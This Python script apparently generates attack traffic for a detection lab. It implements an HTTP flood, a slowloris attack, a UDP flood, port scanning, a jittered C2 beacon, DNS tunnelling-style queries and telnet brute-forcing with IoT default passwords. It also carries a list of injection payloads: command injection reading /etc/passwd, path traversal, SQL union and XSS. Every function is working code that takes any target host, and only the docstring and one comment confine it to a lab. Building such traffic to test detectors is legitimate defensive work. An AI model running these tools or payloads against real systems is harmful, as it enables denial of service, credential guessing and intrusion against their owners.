"""Plain programs for the lab, in place of tools that nobody packages: floods, scans, beacons, and what they meet.

    python traffic.py KIND ARGUMENT...

They are what an attacker writes in an hour with a standard library, and so belong to no tool that a detector may know.
``KINDS`` names them; each docstring gives the arguments.
"""

from __future__ import annotations

import asyncio
import base64
import os
import random
import socket
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Callable
from contextlib import suppress

INJECTIONS = (
    "/item?id=1;cat /etc/passwd",
    "/item?id=1|id",
    "/shop?file=../../../../etc/passwd",
    "/news?page=php://filter/convert.base64-encode/resource=index",
    "/about?q=<script>alert(1)</script>",
    "/item?id=1 UNION SELECT user,pass FROM users--",
    "/cgi-bin/.%2e/.%2e/bin/sh",
    "/shop?x=system('id')",
)
USERS = (b"root", b"admin", b"support", b"guest", b"user")
PASSWORDS = (b"xc3511", b"vizxv", b"admin", b"888888", b"123456", b"default", b"54321", b"root")


def flood(host: str, threads: str, seconds: str) -> None:
    """HOST THREADS SECONDS: a request a connection, as fast as each thread gets answers."""
    end = time.monotonic() + float(seconds)

    def ask() -> None:
        while time.monotonic() < end:
            page, agent = random.choice(("", "shop", "news", "about")), random.randint(1, 9)
            head = f"GET /{page}?{random.randint(1, 99_999)} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: bot{agent}\r\n"
            with suppress(OSError), socket.create_connection((host, 80), 2) as link:
                link.sendall(f"{head}Connection: close\r\n\r\n".encode())
                while link.recv(65_536):
                    pass
            time.sleep(random.random() * 0.2)

    for _ in range(int(threads)):
        threading.Thread(target=ask).start()


def slow(host: str, connections: str, seconds: str) -> None:
    """HOST CONNECTIONS SECONDS: heads of requests that never end, a line every four seconds."""
    held: list[socket.socket] = []
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        with suppress(OSError):
            while len(held) < int(connections):
                held.append(socket.create_connection((host, 80), 3))
                held[-1].sendall(f"GET /?{random.randint(0, 9999)} HTTP/1.1\r\nHost: {host}\r\n".encode())
        time.sleep(4)
        for link in list(held):
            try:
                link.sendall(f"X-a: {random.randint(1, 5000)}\r\n".encode())
            except OSError:
                held.remove(link)


def datagrams(host: str, seconds: str, least: str, most: str, rate: str, port: str = "") -> None:
    """HOST SECONDS LEAST MOST RATE [PORT]: random bytes, at one port or at all."""
    end, noise = time.monotonic() + float(seconds), os.urandom(int(most))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        while time.monotonic() < end:
            for _ in range(max(1, int(rate) // 100)):
                size = random.randint(int(least), int(most))
                link.sendto(noise[:size], (host, int(port) if port else random.randint(1, 65_535)))
            time.sleep(0.01)


def scan(host: str, low: str, high: str, at_once: str, pause: str) -> None:
    """HOST LOW HIGH AT_ONCE PAUSE: connect to ports in random order."""

    async def one(turn: asyncio.Semaphore, port: int) -> None:
        async with turn:
            with suppress(OSError, TimeoutError):
                _, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 1.5)
                writer.close()
            await asyncio.sleep(float(pause))

    async def every() -> None:
        turn, ports = asyncio.Semaphore(int(at_once)), list(range(int(low), int(high)))
        random.shuffle(ports)
        await asyncio.gather(*(one(turn, port) for port in ports))

    asyncio.run(every())


def beacon(kind: str, host: str, port: str, gap: str, jitter: str, calls: str) -> None:
    """raw|get|post HOST PORT GAP JITTER CALLS: an implant that asks for work."""
    own = os.urandom(8).hex()
    for _ in range(int(calls)):
        body = (own + os.urandom(random.randint(60, 90)).hex()).encode()
        head = f"Host: {host}\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n"
        words = {
            "raw": b"\x01\x00" + bytes.fromhex(own) + os.urandom(random.randint(20, 60)),
            "get": f"GET /about?id={own} HTTP/1.1\r\n{head}\r\n".encode(),
            "post": f"POST /login HTTP/1.1\r\n{head}Content-Length: {len(body)}\r\n\r\n".encode() + body,
        }[kind]
        with suppress(OSError), socket.create_connection((host, int(port)), 4) as link:
            link.sendall(words)
            while link.recv(65_536) and kind != "raw":
                pass
        time.sleep(float(gap) * (1 + float(jitter) * (2 * random.random() - 1)))


def dns(host: str, queries: str, pause: str) -> None:
    """HOST QUERIES PAUSE: data in names, one socket."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.settimeout(0.5)
        for number in range(int(queries)):
            data = base64.b32encode(os.urandom(30)).decode().lower().strip("=")
            labels = (data, f"{number:x}", "d", "example", "test")
            name = b"".join(bytes([len(label)]) + label.encode() for label in labels)
            link.sendto(os.urandom(2) + b"\x01\0\0\x01\0\0\0\0\0\0" + name + b"\0\0\x01\0\x01", (host, 53))
            with suppress(OSError):
                link.recv(600)
            time.sleep(float(pause))


def telnet(host: str, sessions: str) -> None:
    """HOST SESSIONS: three guesses a connection, as bots of things do."""
    for _ in range(int(sessions)):
        with suppress(OSError), socket.create_connection((host, 23), 4) as link:
            for _ in range(3):
                for word, pause in ((random.choice(USERS), 0.3), (random.choice(PASSWORDS), 0.4)):
                    link.recv(400)
                    time.sleep(pause)
                    link.sendall(word + b"\r\n")
                time.sleep(1)
        time.sleep(0.2)


def inject(host: str) -> None:
    """HOST: exploits by hand, a few seconds apart."""
    for path in INJECTIONS * 4:
        url = f"http://{host}" + urllib.parse.quote(path, safe="/?=&;|$`'()<>%:")
        with suppress(OSError, urllib.error.URLError), urllib.request.urlopen(url, timeout=4) as answer:
            answer.read()
        time.sleep(random.uniform(0.3, 2))


def push(host: str, port: str, blocks: str, pause: str) -> None:
    """HOST PORT BLOCKS PAUSE: 16 kB a block through one connection."""
    with socket.create_connection((host, int(port))) as link:
        for _ in range(int(blocks)):
            link.sendall(os.urandom(16_000))
            time.sleep(float(pause))


def chat(host: str, port: str, seconds: str) -> None:
    """HOST PORT SECONDS: short messages now and then."""
    end = time.monotonic() + float(seconds)
    with socket.create_connection((host, int(port))) as link:
        while time.monotonic() < end:
            link.sendall(b"\x81" + os.urandom(random.randint(20, 200)))
            time.sleep(random.expovariate(0.7))


def ssdp(address: str) -> None:
    """ADDRESS: looks for things on the network, from that address."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
        head = 'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nMX: 2\r\n'
        for _ in range(10):
            for kind in ("upnp:rootdevice", "ssdp:all"):
                link.sendto(f"{head}ST: {kind}\r\n\r\n".encode(), ("239.255.255.250", 1900))
            time.sleep(3)


def serve(kind: str, port: str) -> None:
    """sink|echo|control PORT: takes everything, says it again, or has no work."""

    def answer(link: socket.socket) -> None:
        with suppress(OSError), link:
            while words := link.recv(65_536):
                if kind == "echo":
                    link.sendall(words[:80])
                elif kind == "control" and words[:2] in (b"GE", b"PO"):
                    link.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
                    return
                elif kind == "control":
                    link.sendall(b"\x02\x00" + os.urandom(random.choice((6, 6, 6, 40))))
                    return

    with socket.create_server(("0.0.0.0", int(port))) as server:  # noqa: S104 - in a namespace without a way out
        while True:
            threading.Thread(target=answer, args=(server.accept()[0],), daemon=True).start()


KINDS: dict[str, Callable[..., None]] = {
    kind.__name__: kind for kind in (flood, slow, datagrams, scan, beacon, dns, telnet, inject, push, chat, ssdp, serve)
}

if __name__ == "__main__":
    KINDS[sys.argv[1]](*sys.argv[2:])
